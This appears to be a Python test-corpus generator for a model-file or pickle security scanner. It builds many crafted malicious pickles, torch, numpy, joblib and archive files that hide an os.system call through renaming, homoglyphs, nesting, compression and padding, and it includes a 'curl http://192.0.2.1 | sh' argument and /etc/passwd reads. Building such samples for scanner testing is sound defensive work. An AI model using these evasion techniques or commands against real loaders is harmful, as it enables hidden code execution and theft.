        stream(word("os"), b"p" + b" " * 5000 + b"7\n0h\x07", word("system"), b"\x93", group(word("true")), b"R"),
    )
    made = builders.joblib_stream
    behind = "APPEND\nRAW " + RUN.hex() + "\nSTOP"
    hidden = RUN + b"0." + bytes(100 - len(RUN))
    yield "opcodes-in-an-array.joblib", made(hidden[:96], (12,), "f8", "APPEND\nSTOP")
    names = word("os") + b"\x940" + word("system") + b"\x940"
    quiet = made(b"h\x00h\x01\x93" + group(word("true")) + b"R.........."[:11], (24,), "b1", "APPEND\nSTOP")
    yield "opcodes-in-an-array-with-memo.joblib", quiet[:2] + names + quiet[2:]
    for name, kind in (("no-size", "f"), ("name", "float64"), ("comma", "i4,f4"), ("subarray", "(2,)f4")):
        yield f"type-by-{name}.joblib", made(bytes(80), (10,), kind, behind)
    twice = made(bytes(40), (10,), "f8", behind)
    whole = made(bytes(80), (10,), "f8", behind)
    shape, order = word("shape"), word("order")
    yield "shape-again.joblib", twice.replace(order, shape + b"K\x05\x85" + order)
    yield "shape-computed.joblib", twice.replace(order, called("builtins.str", shape) + b"K\x05\x85" + order)
    yield (
        "shape-behind-many-keys.joblib",
        twice.replace(order, b"".join(word(f"k{n}") + b"N" for n in range(70)) + shape + b"K\x05\x85" + order),
    )
    yield "shape-as-a-list.joblib", twice.replace(b"J\x0a\0\0\0t", b"J\x0a\0\0\0l")
    yield (
        "size-in-the-state.joblib",
        made(bytes(90), (10,), "S5", behind).replace(b"\x87R", b"\x87R(K\x03" + word("|") + b"NNNK\x09K\x01K\x00tb"),
    )
    yield "wrapper-by-partial.joblib", whole.replace(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81",
        called("functools.partial", lines("joblib.numpy_pickle.NumpyArrayWrapper")) + b")R")  # fmt: skip
    yield "wrapper-by-copyreg.joblib", whole.replace(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81",
        called("copyreg.__newobj__", lines("joblib.numpy_pickle.NumpyArrayWrapper")))  # fmt: skip


def _breaks() -> Iterator[Attack]:
    breaks = {
        "unknown-opcode": b"\xff", "nul": b"\0", "missing-mark": b"t", "missing-memo": b"h\x63", "missing-memo-text": b"g77\n",
        "wrong-type": b"K\x01K\x02\x93", "end": b"", "empty-stack": b"0000", "short-operand": b"X\x05", "long-text": b"X\xff\xff\xff\x7f",
        "negative-binstring": b"T\xff\xff\xff\xff", "negative-long": b"\x8b\xff\xff\xff\xff", "line-without-end": b"cos",
        "bad-number": b"Ix\n", "bad-string": b"Sabc\n", "bad-escape": b"V\\u12\n", "bad-hex": b"S'\\xz'\n", "bad-memo-index": b"p-1\n",
        "build-of-none": b"NNb", "huge-bytes": b"\x8e" + b"\xff" * 8, "huge-bytearray": b"\x96" + b"\xff" * 8, "odd-items": b"}(Nu",
        "frame-cut": b"\x95\x01", "stop-of-nothing": b"00.", "unhashable-key": b"}]Ns", "append-to-none": b"NNa", "proto-cut": b"\x80",
        "persistent": b"Px\n", "recursion": b"]2a" * 3, "ext-cut": b"\x84\x01", "newobj-of-text": b"\x8c\x01x)\x81", "bad-global": b"c\n\n",
    }  # fmt: skip
    for name, broken in breaks.items():
        yield f"{name}.pkl", b"\x80\x04" + RUN + broken
        yield f"{name}-of-text.pkl", PLAIN[:-1] + broken


def _streams() -> Iterator[Attack]:
    yield "second.pkl", NONE + PAYLOAD
    yield "second-without-header.pkl", NONE + PAYLOAD[2:]
    yield "second-protocol-0.pkl", NONE + PLAIN
    yield "second-protocol-255.pkl", NONE + b"\x80\xff" + PAYLOAD[2:]
    yield "both-protocol-0.pkl", b"N." + PLAIN
    yield "last-of-1000.pkl", NONE * 999 + PAYLOAD
    yield "last-of-1000-text.pkl", b"\x80\x02N." * 999 + PLAIN
    yield "behind-zeros.pkl", QUIET + bytes(100) + PAYLOAD
    yield "behind-a-megabyte.pkl", QUIET + bytes(2**20) + PAYLOAD
    yield "behind-noise.pkl", QUIET + random.Random(3).randbytes(5000) + PAYLOAD
    yield "behind-text.pkl", QUIET + b"a line of text\n" * 20 + PAYLOAD
    yield "behind-a-line.pkl", QUIET + b"\n" + PAYLOAD
    yield "behind-a-break.pkl", b"\x80\x04\xff" + bytes(50) + PAYLOAD
    yield "before-noise.pkl", PAYLOAD + random.Random(4).randbytes(500)
    yield "prefix-of-pops.pkl", b"\x80\x04N0N0" + PAYLOAD[2:]
    yield "stop-twice.pkl", stream(b"N.", RUN)


# -- pickles inside pickles


def _nested() -> Iterator[Attack]:
    loaders = (
        "pickle.loads", "_pickle.loads", "cPickle.loads", "dill.loads", "dill._dill.loads", "cloudpickle.loads", "marshal.loads", "joblib.load",
        "torch.load", "torch.storage._load_from_bytes", "torch.serialization._legacy_load", "pandas.read_pickle", "numpy.load", "yaml.unsafe_load",
        "jsonpickle.decode", "shelve.open", "cloudpickle.cloudpickle.loads", "pandas.compat.pickle_compat.load", "torch.jit.load",
        "numpy.lib.npyio.load", "numpy.lib.format.read_array", "multiprocessing.reduction.ForkingPickler", "xmlrpc.client.loads",
    )  # fmt: skip
    for loader in loaders:
        yield f"{loader}.pkl", stream(called(loader, raw(PAYLOAD)))
    yield "of-a-bytesio.pkl", stream(called("pandas.read_pickle", called("io.BytesIO", raw(PAYLOAD))))
    torch = "torch.storage._load_from_bytes"
    bodies = {
        "plain": PAYLOAD, "text": PLAIN, "legacy": builders.torch_legacy(PAYLOAD), "zip": builders.torch_zip(PAYLOAD),
        "zlib": zlib.compress(PAYLOAD), "gzip": gzip.compress(PAYLOAD, mtime=0),
    }  # fmt: skip
    for name, body in bodies.items():
        yield f"torch-{name}.pkl", stream(called(torch, raw(body)))
    yield "torch-short-bytes.pkl", stream(called(torch, b"C" + bytes([len(PAYLOAD)]) + PAYLOAD))
    yield "torch-bytes8.pkl", stream(called(torch, b"\x8e" + struct.pack("<Q", len(PAYLOAD)) + PAYLOAD))
    yield "torch-bytearray.pkl", stream(called(torch, b"\x96" + struct.pack("<Q", len(PAYLOAD)) + PAYLOAD), protocol=5)
    yield "torch-python2-string.pkl", stream(called(torch, b"U" + bytes([len(PAYLOAD)]) + PAYLOAD), protocol=2)
    latin = word(PAYLOAD.decode("latin-1"))
    for codec in ("latin1", "latin-1", "iso-8859-1", "rot13", "L1"):
        yield (
            f"torch-encoded-{codec}.pkl",
            stream(called(torch, called("_codecs.encode", latin, word(codec))), protocol=2),
        )
    yield "torch-computed.pkl", stream(called(torch, called("builtins.bytes", b"]K\x01a")))
    yield "torch-from-memo.pkl", stream(raw(PAYLOAD), b"\x940", called(torch, b"h\x00"))
    yield "torch-of-a-bytesio.pkl", stream(called(torch, called("io.BytesIO", raw(PAYLOAD))))
    deep = PAYLOAD
    for _ in range(6):
        deep = stream(called(torch, raw(deep)))
    yield "seven-deep.pkl", deep
    deep = PAYLOAD
    for _ in range(40):
        deep = stream(called(torch, raw(deep)))
    yield "forty-deep.pkl", deep
    yield "unnamed-bytes.pkl", stream(raw(PAYLOAD))
    yield "unnamed-bytes-in-a-dict.pkl", stream(b"}", word("model"), raw(PAYLOAD), b"s")
    yield "unnamed-in-unnamed.pkl", stream(raw(stream(raw(stream(raw(PAYLOAD))))))
    yield "in-an-object-array.npy", builders.npy(stream(called(torch, raw(PAYLOAD))), "|O", (1,))


def _renamed() -> Iterator[Attack]:
    for dotted in (
        "__builtin__.eval", "__builtin__.execfile", "__builtin__.apply", "__builtin__.reduce", "__builtin__.file", "__builtin__.raw_input",
        "__builtin__.reload", "commands.getoutput", "commands.getstatusoutput", "urllib2.urlopen", "urllib.urlopen", "urllib.urlretrieve", "httplib.HTTPConnection",
        "popen2.popen3", "os.popen2", "os.tempnam", "cPickle.loads", "cPickle.load", "itertools.imap", "itertools.ifilter", "new.function", "new.code", "new.classobj",
        "imp.load_source", "thread.start_new_thread", "anydbm.open", "SocketServer.TCPServer", "SimpleHTTPServer.test",
        "Tkinter.Tk", "exceptions.SystemExit", "dl.open", "rexec.RExec", "ihooks.ModuleLoader", "sre_parse.Pattern", "compiler.compile", "md5.new", "mimetools.copyliteral",
        "posixfile.open", "multiprocessing.forking.Popen", "copy_reg.add_extension", "user.home", "test.test_support.run_unittest", "xmlrpclib.ServerProxy",
    ):  # fmt: skip
        yield f"{dotted}.pkl", stream(called(lines(dotted), b"U\x04true"), protocol=2)


# -- size and shape


def _bombs() -> Iterator[Attack]:
    yield "memo-index.pkl", stream(b"Nr" + struct.pack("<I", 2**32 - 1))
    yield "doubling.pkl", stream(b"]" + b"2\x86" * 50_000, RUN)
    yield (
        "doubling-by-memo.pkl",
        stream(
            b"]" + b"".join(b"q" + bytes([n]) + b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e" for n in range(200)), RUN
        ),
    )
    yield "self-reference.pkl", stream(b"]\x94h\x00a", RUN)
    yield "self-reference-as-argument.pkl", stream(b"]\x94h\x00a0", called("example.tools.load", b"h\x00"))
    yield "self-reference-dict.pkl", stream(b"}\x94" + word("k") + b"h\x00s0", called("example.tools.load", b"h\x00"))
    yield "self-reference-state.pkl", stream(called("types.SimpleNamespace"), b"\x94}" + word("k") + b"h\x00sb", RUN)
    yield "nested-lists.pkl", stream(b"]" * 100_000 + b"a" * 99_999, RUN)
    yield "nested-tuples.pkl", stream(b"N" + b"\x85" * 100_000, RUN)
    yield "nested-marks.pkl", stream(b"(" * 100_000 + b"t" * 100_000, RUN)
    yield "nested-builds.pkl", stream(called("types.SimpleNamespace") * 3000 + b"b" * 2999, RUN)
    yield (
        "nested-calls.pkl",
        stream(b"N" + b"".join(b"\x85" + b"0" + named("builtins.str") + b"N\x85R" for _ in range(3000)), RUN),
    )
    yield "nested-arguments.pkl", stream(named("example.tools.load"), b"N" + b"\x85" * 100_000, b"R")
    yield "long4-huge.pkl", stream(RUN, b"\x8b" + struct.pack("<i", 2**31 - 1) + bytes(20))
    yield "unicode8-huge.pkl", stream(RUN, b"\x8d" + struct.pack("<Q", 2**62) + b"x")
    yield "text-long-million-digits.pkl", stream(b"L" + b"9" * 10**6 + b"L\n", RUN)
    yield "text-int-million-digits.pkl", stream(b"I" + b"9" * 10**6 + b"\n", RUN)
    yield "text-float-million-digits.pkl", stream(b"F" + b"9" * 10**6 + b"\n", RUN)
    yield "long-million-bytes.pkl", stream(b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6, RUN)
    yield "megabyte-name.pkl", stream(b"X" + struct.pack("<I", 2**20) + b"o" * 2**20 + word("system") + b"\x93")
    yield "many-names.pkl", stream(b"".join(f"cexample.m{n}\nf\n0".encode() for n in range(30_000)), RUN)
    yield "many-review-names.pkl", stream(b"".join(f"cexample.m{n}\nf\n0".encode() for n in range(3000)), RUN)
    yield "many-hidden-extensions.pkl", stream(b"\x82\x01" * 200_000, RUN)
    yield "many-memos.pkl", stream(b"N" + b"\x94" * 1_000_000, RUN)
    yield "many-empty-lists.pkl", stream(b"]" * 2_000_000, RUN)
    yield "many-headers.pkl", b"\x80\x04" * 200_000 + RUN + b"."
    yield "many-nested-bytes.pkl", stream((raw(NONE + b"..........") + b"0") * 5000, RUN)
    yield "many-persistent.pkl", stream(b"Px\n0" * 100_000, RUN)
    yield "sparse-memo.pkl", stream(b"N" + b"".join(b"r" + struct.pack("<I", 2 * n) for n in range(1, 100_000)), RUN)
    yield (
        "empty-object-of-a-terabyte.pkl",
        stream(called("builtins.bytes", b"\x8a\x06" + (2**40).to_bytes(6, "little"))),
    )


def _odd_names() -> Iterator[Attack]:
    made = {
        "homoglyph": b"c\xd0\xbes\nsystem\n", "homoglyph-name": b"cos\nsyst\xd0\xb5m\n", "wide-letters": "cｏｓ\nsystem\n".encode(), "bold": "c𝐨𝐬\nsystem\n".encode(),
        "space": b"cos \nsystem\n", "space-inside": b"co s\nsystem\n", "leading-space": b"c os\nsystem\n", "tab": b"cos\t\nsystem\n",
        "carriage-return": b"cos\r\nsystem\r\n", "nul": b"cos\0\nsystem\n", "empty-module": b"c\nsystem\n", "empty-name": b"cos\n\n", "both-empty": b"c\n\n",
        "long": b"cos\nsystem" + b"x" * 3000 + b"\n", "surrogate": b"cos\nsystem\xed\xb3\xbf\n", "invalid": b"cos\nsys\xff\n", "hash": b"cos#x\nsystem\n",
        "semicolon": b"cos;x\nsystem\n", "brackets": b"cos\nsystem()\n", "dot-first": b"c.os\nsystem\n", "dot-last": b"cos.\nsystem\n", "two-dots": b"cos..path\nsystem\n",
        "slash": b"cos/path\nsystem\n", "right-to-left": "cos\nsy\u202emetsys\n".encode(), "zero-width": "cos\nsystem\u200b\n".encode(), "combining": "cos\nsyste\u0301m\n".encode(),
        "greek": "cοs\nsystem\n".encode(), "dunder-module": b"c__builtins__\neval\n", "dunder-name": b"cexample\n__builtins__\n", "main-dunder": b"c__main__\n__builtins__\n",
    }  # fmt: skip
    for name, line in made.items():
        yield f"{name}.pkl", stream(called(line, word("true")), protocol=2)
    for name, line in made.items():
        module, leaf = line[1:].split(b"\n")[:2]
        if len(module) < 256 and len(leaf) < 256:
            both = b"\x8c" + bytes([len(module)]) + module + b"\x8c" + bytes([len(leaf)]) + leaf
            yield f"{name}-stack.pkl", stream(called(both + b"\x93", word("true")))
    yield "surrogate-text.pkl", stream(called(b"\x8c\x02os\x8c\x09sys\xed\xa0\x80tem\x93", word("true")))
    yield "newline-in-a-name.pkl", stream(called(word("os\nx") + word("system") + b"\x93", word("true")))


def _classes() -> Iterator[Attack]:
    """Classes of known libraries that fetch, open or start something when they are called."""
    for dotted, argument in (
        ("sentence_transformers.SentenceTransformer", "example/model"), ("sentence_transformers.SentenceTransformer.SentenceTransformer", "example/model"),
        ("transformers.models.rag.retrieval_rag.LegacyIndex", "/tmp/index"), ("transformers.models.transfo_xl.tokenization_transfo_xl.TransfoXLTokenizer", "vocab.bin"),
        ("transformers.models.bert.tokenization_bert.BertTokenizer", "/etc/passwd"), ("optuna.study.Study", "sqlite:///x.db"), ("optuna.study.study.Study", "mysql://192.0.2.1/x"),
        ("catboost.core.Pool", "https://example.com/x"), ("lightgbm.basic.Booster", "../x.txt"), ("lightgbm.basic.Dataset", "data/x.bin"), ("xgboost.core.DMatrix", "https://example.com/x"),
        ("gensim.models.word2vec.PathLineSentences", "/etc"), ("gensim.models.word2vec.LineSentence", "/etc/passwd"), ("gensim.corpora.textcorpus.TextDirectoryCorpus", "/etc"),
        ("spacy.vocab.Vocab", "https://example.com"), ("torch.nn.parallel.distributed.DistributedDataParallel", "tcp://192.0.2.1:1"),
        ("fastai.learner.Learner", "file:///x"), ("skops.io._utils.LoadContext", "../../x.zip"), ("hdbscan.hdbscan_.Memory", "/tmp/x"), ("sklearn.utils._joblib.Memory", "/tmp/x"),
        ("stable_baselines3.common.logger.CSVOutputFormat", "/tmp/x.csv"), ("stable_baselines3.common.monitor.Monitor", "../x"), ("statsmodels.iolib.table.SimpleTable", "file:///x"),
        ("pandas.core.frame.DataFrame", "https://example.com/x.pkl"), ("pandas.core.series.Series", "curl http://192.0.2.1 | sh"), ("setfit.SetFitModel", "example/model"),
        ("tokenizers.implementations.ByteLevelBPETokenizer", "../vocab.json"), ("timm.models._hub.Path", "/etc/passwd"), ("ultralytics.nn.autobackend.AutoBackend", "x.torchscript/x.pt"),
    ):  # fmt: skip
        leaf = dotted.rpartition(".")[2]
        yield f"{dotted}.pkl", stream(called(dotted, word(argument)))
        if leaf in ("SentenceTransformer", "Pool", "LineSentence"):
            yield f"{dotted}-obj.pkl", stream(b"(", named(dotted), word(argument), b"o")
            yield f"{dotted}-list.pkl", stream(called(dotted, b"]" + word(argument) + b"a"))
    for dotted in ("hdbscan.hdbscan_.Memory", "lightgbm.basic.TemporaryDirectory", "stable_baselines3.common.vec_env.subproc_vec_env.SubprocVecEnv", "statsmodels.datasets.utils.StringIO",
                   "torch.nn.modules.lazy.LazyModuleMixin.__init__", "sklearn.externals._arff.ArffDecoder.decode"):  # fmt: skip
        yield f"{dotted}-named.pkl", stream(called(dotted, word("/tmp/x")))


# -- containers


def _wrapped() -> Iterator[Attack]:
    for name, content in (("pickle", PAYLOAD), ("text", PLAIN), ("zip", builders.torch_zip(PAYLOAD))):
        yield f"{name}.pkl.gz", gzip.compress(content, mtime=0)
        yield f"{name}.pkl.bz2", bz2.compress(content)
        yield f"{name}.pkl.xz", lzma.compress(content)
        yield f"{name}.pkl.lzma", lzma.compress(content, lzma.FORMAT_ALONE)
        yield f"{name}.pkl.z", zlib.compress(content)
        for level in (0, 1, 9):
            yield f"{name}-zlib{level}.joblib", zlib.compress(content, level)
    yield "gz-in-bz2.pkl.gz.bz2", bz2.compress(gzip.compress(PAYLOAD, mtime=0))
    yield "xz-in-zlib.bin", zlib.compress(lzma.compress(PAYLOAD))
    yield "gz-in-gz.gz", gzip.compress(gzip.compress(gzip.compress(PAYLOAD, mtime=0), mtime=0), mtime=0)
    yield "gz-second-member.gz", gzip.compress(NONE, mtime=0) + gzip.compress(PAYLOAD, mtime=0)
    yield "bz2-second-stream.bz2", bz2.compress(NONE) + bz2.compress(PAYLOAD)
    yield "xz-second-stream.xz", lzma.compress(NONE) + lzma.compress(PAYLOAD)
    yield "gz-cut.gz", gzip.compress(PAYLOAD + random.Random(1).randbytes(2000), mtime=0)[:-900]
    yield "gz-with-name.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"model.txt\0" + zlib.compress(PAYLOAD)[2:-4] + bytes(8)
    yield "zlib-trailing.joblib", zlib.compress(NONE) + PAYLOAD
    yield "gz-trailing.gz", gzip.compress(NONE, mtime=0) + PAYLOAD
    yield "prefix-bytes.joblib.gz", gzip.compress(bytes(8) + PAYLOAD, mtime=0)
    import lz4.frame
    import zstandard

    yield "lz4.joblib", lz4.frame.compress(PAYLOAD)
    yield "lz4.pkl.lz4", lz4.frame.compress(PLAIN)
    yield "zstd.pkl.zst", zstandard.ZstdCompressor().compress(PAYLOAD)
    yield "zstd-in-lz4.bin", lz4.frame.compress(zstandard.ZstdCompressor().compress(PAYLOAD))


def _tar(pairs: list[tuple[str, bytes]], form: int = tarfile.PAX_FORMAT, **headers: str) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=form) as file:
        for name, content in pairs:
            entry = tarfile.TarInfo(name)
            entry.size, entry.pax_headers = len(content), dict(headers)
            file.addfile(entry, io.BytesIO(content))
    return target.getvalue()


def _zip(pairs: list[tuple[str, bytes]], method: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as file:
        for name, content in pairs:
            file.writestr(zipfile.ZipInfo(name), content, method)
    return target.getvalue()


def _archives() -> Iterator[Attack]:
    member = [("model/weights.pkl", PAYLOAD)]
    for form, name in ((tarfile.USTAR_FORMAT, "ustar"), (tarfile.GNU_FORMAT, "gnu"), (tarfile.PAX_FORMAT, "pax")):
        yield f"{name}.tar", _tar(member, form)
        yield f"{name}.tar.gz", gzip.compress(_tar(member, form), mtime=0)
        yield f"{name}-text.tar", _tar([("model.pkl", PLAIN)], form)
        yield f"{name}-second.tar", _tar([("readme", b"x"), *member], form)
    long = "d/" * 120 + "weights.pkl"
    yield "gnu-long-name.tar", _tar([(long, PAYLOAD)], tarfile.GNU_FORMAT)
    yield "pax-long-name.tar", _tar([(long, PAYLOAD)])
    yield "pax-path.tar", _tar([("notes.txt", PAYLOAD)], path="model.pkl")
    yield "any-name.tar", _tar([("notes", PAYLOAD)])
    yield "two-in-a-row.tar", _tar([("a.txt", b"x")]) + _tar(member)
    yield "inside-tar.tar", _tar([("inner.tar", _tar(member))])
    yield "tar.bz2", bz2.compress(_tar(member))
    yield "tar.xz", lzma.compress(_tar(member))
    yield "nemo.nemo", _tar([("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", builders.torch_zip(PAYLOAD))])
    for method, name in ((0, "stored"), (8, "deflated"), (12, "bzip2"), (14, "lzma")):
        yield f"{name}.zip", _zip(member, method)
        yield f"{name}-text.zip", _zip([("model.pkl", PLAIN)], method)
        yield f"{name}-any-name.zip", _zip([("notes/readme", PAYLOAD)], method)
    yield "zip-in-zip.zip", _zip([("inner.zip", _zip(member, 8))], 0)
    yield "gz-in-zip.zip", _zip([("model.pkl.gz", gzip.compress(PAYLOAD, mtime=0))], 8)
    yield "tar-in-zip.zip", _zip([("model.tar", _tar(member))], 8)
    yield "zip-in-tar.tar", _tar([("model.zip", _zip(member, 8))])
    yield "tar-named-pt.pt", _tar(member)
    yield "comment.zip", _zip(member, 8)[:-2] + b"\x05\x00hello"
    yield "wheel.whl", _zip([("pkg/__init__.py", b""), ("pkg/model.pkl", PAYLOAD)], 8)
    yield "mar.mar", _zip([("MAR-INF/MANIFEST.json", b"{}"), ("model.pt", builders.torch_zip(PAYLOAD))], 8)


def _torch() -> Iterator[Attack]:
    zipped = builders.torch_zip
    yield "data.pt", zipped(PAYLOAD)
    yield "data.bin", zipped(PAYLOAD)
    yield "data.ckpt", zipped(PAYLOAD)
    yield "data.pth.tar", zipped(PAYLOAD)
    yield "text.pt", zipped(PLAIN)
    yield "storage-as-tensor.pt", zipped(QUIET, [PAYLOAD])
    yield "storage-padded.pt", zipped(QUIET, [PAYLOAD + bytes(64)])
    yield "byteorder.pt", builders.archive({"a/data.pkl": QUIET, "a/byteorder": PAYLOAD, "a/version": b"3\n"})
    yield "version.pt", builders.archive({"a/data.pkl": QUIET, "a/version": PAYLOAD})
    yield "extra-member.pt", builders.archive({"a/data.pkl": QUIET, "a/extra.pkl": PAYLOAD, "a/version": b"3\n"})
    yield "extra-folder.pt", builders.archive({"a/data.pkl": QUIET, "b/data.pkl": PAYLOAD, "a/version": b"3\n"})
    yield (
        "constants.pt",
        builders.archive(
            {"a/data.pkl": QUIET, "a/constants.pkl": PAYLOAD, "a/code/__torch__.py": b"x", "a/version": b"3"}
        ),
    )
    yield (
        "script-data.pt",
        builders.archive(
            {"a/data.pkl": PAYLOAD, "a/constants.pkl": NONE, "a/code/__torch__.py": b"x", "a/version": b"3"}
        ),
    )
    yield "debug-pickle.pt", builders.archive({"a/data.pkl": QUIET, "a/constants.pkl": NONE, "a/code/__torch__.py": b"x",
                                               "a/code/__torch__.py.debug_pkl": PAYLOAD, "a/version": b"3"})  # fmt: skip
    yield "persistent-id.pt", zipped(stream(called("os.system", word("true")), b"Q", protocol=2))
    yield "in-persistent-id.pt", zipped(stream(group(word("storage"), RUN, word("0"), word("cpu"), b"K\x01"), b"Q"))
    yield (
        "as-storage-type.pt",
        zipped(stream(group(word("storage"), named("os.system"), word("0"), word("cpu"), b"K\x01"), b"Q")),
    )
    yield (
        "module-id.pt",
        builders.torch_legacy(
            stream(
                called(group(word("module"), named("os.system"), word("x.py"), word("x")) + b"Q", word("true")),
                protocol=2,
            )
        ),
    )
    head = [
        assemble("PROTO 2\nLONG1 119547037146038801333356\nSTOP"),
        assemble("PROTO 2\nBININT2 1001\nSTOP"),
        stream(b"}"),
        QUIET,
        stream(b"]"),
    ]
    for place in range(5):
        parts = list(head)
        parts[place] = stream(RUN, b"0", parts[place][2:-1])
        yield f"legacy-{place}.pt", b"".join(parts)
    yield "legacy-behind.pt", b"".join(head) + PAYLOAD
    storage = stream(
        group(word("storage"), named("torch.FloatStorage"), word("11"), word("cpu"), b"K\x04", b"N"), b"Q", protocol=2
    )
    yield "legacy-storage.pt", builders.torch_legacy(storage, {"11": bytes(16)}) + PAYLOAD
    yield "legacy-in-storage.pt", builders.torch_legacy(storage, {"11": PAYLOAD + bytes(-len(PAYLOAD) % 4)})
    yield (
        "legacy-more-storage.pt",
        builders.torch_legacy(storage, {"11": bytes(16), "12": PAYLOAD + bytes(-len(PAYLOAD) % 4)}),
    )
    for name in ("sys_info", "pickle", "storages", "tensors"):
        members = [
            (key, PAYLOAD if key == name else stream(b"}")) for key in ("sys_info", "pickle", "storages", "tensors")
        ]
        yield f"tar-{name}.pt", _tar(members, tarfile.USTAR_FORMAT)
    yield (
        "tar-storages-second.pt",
        _tar(
            [
                ("sys_info", stream(b"}")),
                ("storages", stream(b"K\x01") + PAYLOAD),
                ("tensors", stream(b"K\x00")),
                ("pickle", QUIET),
            ]
        ),
    )
    yield (
        "package.pt",
        builders.archive({"p/.data/extern_modules": b"", "p/.data/version": b"1", "p/model/model.pkl": PAYLOAD}),
    )


def _arrays() -> Iterator[Attack]:
    npy = builders.npy
    for name, kind in (("object", "|O"), ("object8", "|O8"), ("field", [("a", "<f4"), ("b", "|O")]), ("subarray", [("a", "|O", (2,))]),
                       ("nested", [("a", [("b", [("c", "|O")])])]), ("titled", [(("title", "a"), "|O")])):  # fmt: skip
        for version in (1, 2, 3):
            yield f"{name}-{version}.npy", npy(PAYLOAD, kind, (1,), version)
    yield "raw-pickle.npy", PAYLOAD
    yield "trailing.npy", npy(bytes(8), "<f4", (2,)) + PAYLOAD
    yield "second-array.npy", npy(bytes(8), "<f4", (2,)) + npy(PAYLOAD, "|O", (1,))
    yield "empty-object.npy", npy(PAYLOAD, "|O", (0,))
    for packed in (False, True):
        suffix = "packed" if packed else "stored"
        yield (
            f"{suffix}.npz",
            builders.archive({"a.npy": npy(bytes(8), "<f4", (2,)), "b.npy": npy(PAYLOAD, "|O", (1,))}, packed),
        )
        yield f"{suffix}-raw.npz", builders.archive({"a.npy": PAYLOAD}, packed)
        yield (
            f"{suffix}-other-member.npz",
            builders.archive({"a.npy": npy(bytes(8), "<f4", (2,)), "b": PAYLOAD}, packed),
        )
        yield f"{suffix}-text.npz", builders.archive({"a.npy": PLAIN}, packed)
    yield (
        "object-behind-numbers.npy",
        npy(bytes(4), "<f4", (1,)) + npy(bytes(4), "<f4", (1,)) + npy(PAYLOAD, [("a", "|O")], (1,)),
    )


def _joblib() -> Iterator[Attack]:
    made = builders.joblib_stream
    for order in ("C", "F"):
        content = made(bytes(80), (10,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
        yield f"behind-{order}.joblib", content.replace(b"\x8c\x01C", b"\x8c\x01" + order.encode())
    yield "object-array.joblib", made(PAYLOAD, (1,), "O8", "APPEND\nSTOP")
    yield "object-array-of-none.joblib", made(PAYLOAD, (0,), "O8", "APPEND\nSTOP")
    yield "two-dimensions.joblib", made(bytes(48), (2, 3), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield "zero-size.joblib", made(b"", (0, 5), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield "zero-dimensions.joblib", made(bytes(8), (), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    for kind, size in (("f4", 4), ("i8", 8), ("U3", 12), ("S5", 5), ("b1", 1), ("c16", 16), ("M8[ns]", 8)):
        yield f"of-{kind[:2]}.joblib", made(bytes(10 * size), (10,), kind, "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield (
        "raw-bytes-are-opcodes.joblib",
        made(PAYLOAD + bytes(80 - len(PAYLOAD)), (10,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP"),
    )
    yield "shape-lies.joblib", made(bytes(8), (1000,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield "shape-negative.joblib", made(bytes(8), (-1,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield "shape-huge.joblib", made(bytes(8), (2**31 - 1, 2**31 - 1), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    aligned = made(b"\x05" + bytes(5) + bytes(80), (10,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP")
    yield (
        "aligned.joblib",
        aligned.replace(b"\x8c\x0aallow_mmap", b"\x8c\x1bnumpy_array_alignment_bytesK\x10\x8c\x0aallow_mmap"),
    )
    for codec, packing in (("zlib", zlib.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield f"packed-{codec}.joblib", packing(made(bytes(80), (10,), "f8", "APPEND\nRAW " + RUN.hex() + "\nSTOP"))
    old = "joblib.numpy_pickle.NDArrayWrapper"
    for place, name in (("absolute", "/tmp/x.npy"), ("above", "../x.npy"), ("windows", "C:\\x.npy")):
        yield f"old-{place}.joblib", stream(named(old), b")\x81}", word("filename"), word(name), b"sb")
    yield "old-and-call.joblib", stream(named(old), b")\x81}", word("filename"), word("m_01.npy"), b"sb0", RUN)
    yield "zfile.joblib", b"ZF" + b"0x20".ljust(19) + zlib.compress(PAYLOAD)


_LAMBDA = b'{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "eA=="}}}}'
_SHELL_CODE = compile("import os\nos.system('true')", "x", "exec")


def _dumped() -> Iterator[Attack]:
    make = "cloudpickle.cloudpickle._make_function"
    code = called(called("cloudpickle.cloudpickle._builtin_type", word("CodeType")), b"K\x00", b"K\x00", b"K\x00", b"K\x01", b"K\x02", b"K\x43",
                  raw(_SHELL_CODE.co_code), group(b"N", word("true")), group(word("os"), word("system")), b")", word("x"), word("f"), b"K\x01", raw(b""))  # fmt: skip
    yield "cloudpickle-bytecode.pkl", stream(called(make, code, b"}", b"N", b"N", b"N"))
    yield "cloudpickle-called.pkl", stream(called(called(make, code, b"}", b"N", b"N", b"N")))
    yield (
        "cloudpickle-socket.pkl",
        stream(called(make, code.replace(word("system"), word("urlopen")), b"}", b"N", b"N", b"N")),
    )
    yield "cloudpickle-subimport.pkl", stream(called("cloudpickle.cloudpickle.subimport", word("os.path")))
    yield "cloudpickle-class-called.pkl", stream(called(called("builtins.type", word("X"), b")", b"}")))
    yield (
        "cloudpickle-joblib.pkl",
        stream(called(called("joblib.externals.cloudpickle.cloudpickle._make_function", code, b"}"))),
    )
    yield "dill-function.dill", stream(called("dill._dill._create_function", code, b"}"))
    yield "dill-function-called.dill", stream(called(called("dill._dill._create_function", code, b"}")))
    yield "dill-eval.dill", stream(called("dill._dill._eval_repr", word("1")))
